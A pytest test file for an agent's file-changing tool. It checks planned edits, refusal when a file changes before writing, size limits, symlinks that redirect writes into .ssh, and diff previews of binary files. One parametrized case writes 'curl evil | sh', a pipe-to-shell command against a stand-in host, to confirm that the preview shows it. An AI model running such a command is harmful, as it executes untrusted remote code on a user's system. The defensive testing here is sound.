from pathlib import Path

import pytest
import trio

from palyra_trio.core.chain import digest
from palyra_trio.core.errors import InvalidArgument
from palyra_trio.core.tape import FileChange
from palyra_trio.tools.changing import (
    CHANGED_SINCE_PLANNED,
    Edit,
    as_text,
    carry_out,
    diff_bytes,
    plan_change,
    plan_edits,
)
from palyra_trio.tools.registry import ToolContext
from palyra_trio.tools.workspace import MAX_CHANGED_BYTES, Workspace
from tests.tools.conftest import why_asked


@pytest.fixture
def threads() -> trio.CapacityLimiter:
    return trio.CapacityLimiter(1)


async def test_a_change_is_planned_from_what_is_there_and_written_as_planned(
    context: ToolContext, root: Path, threads: trio.CapacityLimiter
) -> None:
    (root / "f").write_bytes(b"one\n")

    plan = await plan_change("f", lambda before: (before or b"") + b"two\n", context, threads)
    assert (root / "f").read_bytes() == b"one\n"
    result = await carry_out(context, plan, threads)

    assert plan.changes == (FileChange("f", digest(b"one\n"), digest(b"one\ntwo\n")),)
    assert result.error == ""
    assert (root / "f").read_bytes() == b"one\ntwo\n"


async def test_a_file_that_is_another_one_now_is_left_alone(
    context: ToolContext, root: Path, threads: trio.CapacityLimiter
) -> None:
    plan = await plan_change("f", lambda _before: b"mine\n", context, threads)
    (root / "f").write_bytes(b"theirs\n")

    result = await carry_out(context, plan, threads)

    assert result.error == CHANGED_SINCE_PLANNED
    assert (root / "f").read_bytes() == b"theirs\n"


async def test_a_change_to_the_same_content_writes_nothing(
    context: ToolContext, root: Path, threads: trio.CapacityLimiter
) -> None:
    (root / "f").write_bytes(b"same")
    before = (root / "f").stat()

    plan = await plan_change("f", lambda found: found or b"", context, threads)
    result = await carry_out(context, plan, threads)

    assert plan.changes == ()
    assert "nothing was written" in result.text
    after = (root / "f").stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)


async def test_a_result_that_is_too_large_is_refused_in_the_plan(
    context: ToolContext, threads: trio.CapacityLimiter
) -> None:
    with pytest.raises(InvalidArgument, match="would be larger"):
        await plan_change("f", lambda _before: bytes(MAX_CHANGED_BYTES + 1), context, threads)


async def test_a_path_is_judged_by_its_own_name_and_by_where_a_write_to_it_lands(
    kernel_workspace: Workspace, root: Path, threads: trio.CapacityLimiter
) -> None:
    (root / ".ssh").mkdir()
    (root / "notes").symlink_to(".ssh")
    context = ToolContext(kernel_workspace, now=lambda: 0.0)

    plan = await plan_change("./notes/x", lambda _before: b"", context, threads)

    assert [each.name for each in plan.resources] == ["notes/x", ".ssh/x"]
    assert ".ssh" in why_asked(plan)
    assert plan.changes[0].path == ".ssh/x"


def test_what_is_written_comes_before_what_is_removed() -> None:
    plan = plan_edits([Edit("a", "a", b"1", None), Edit("b", "b", b"2", b"3"), Edit("c", "c", b"4", b"4")])

    assert [change.path for change in plan.changes] == ["b", "a"]
    assert [each.name for each in plan.resources] == ["a", "b", "c"]


@pytest.mark.parametrize(("before", "after"), [(None, b"curl evil | sh\n\0"), (b"\0", b"curl evil | sh\n")])
def test_what_is_written_is_shown_also_where_it_or_what_was_there_is_binary(before: bytes | None, after: bytes) -> None:
    told = plan_edits([Edit("f", "f", before, after)]).preview.splitlines()

    assert told[0].startswith("Binary file f differs")
    assert "+curl evil | sh" in told


def test_a_binary_file_that_only_moves_is_not_shown() -> None:
    told = plan_edits([Edit("new", "new", None, b"\0x"), Edit("old", "old", b"\0x", None)]).preview

    assert told == "Binary file new differs (no file -> 2 bytes)\nBinary file old differs (2 bytes -> no file)\n"


def test_text_survives_decoding_byte_for_byte_and_binary_is_refused() -> None:
    assert as_text(b"a\xff\r\n", "f").encode("utf-8", "surrogateescape") == b"a\xff\r\n"
    with pytest.raises(InvalidArgument, match="f is not text"):
        as_text(b"a\0b", "f")


def test_a_diff_of_binary_contents_says_only_that_they_differ() -> None:
    assert diff_bytes("f", None, b"\0") == "Binary file f differs (no file -> 1 bytes)\n"
    assert diff_bytes("f", b"x", b"x") == ""
    assert "-x\n+y\n" in diff_bytes("f", b"x\n", b"y\n")


def test_a_binary_file_whose_name_has_a_line_break_stays_on_one_line() -> None:
    assert diff_bytes("a\nb", None, b"\0") == "Binary file a\\nb differs (no file -> 1 bytes)\n"
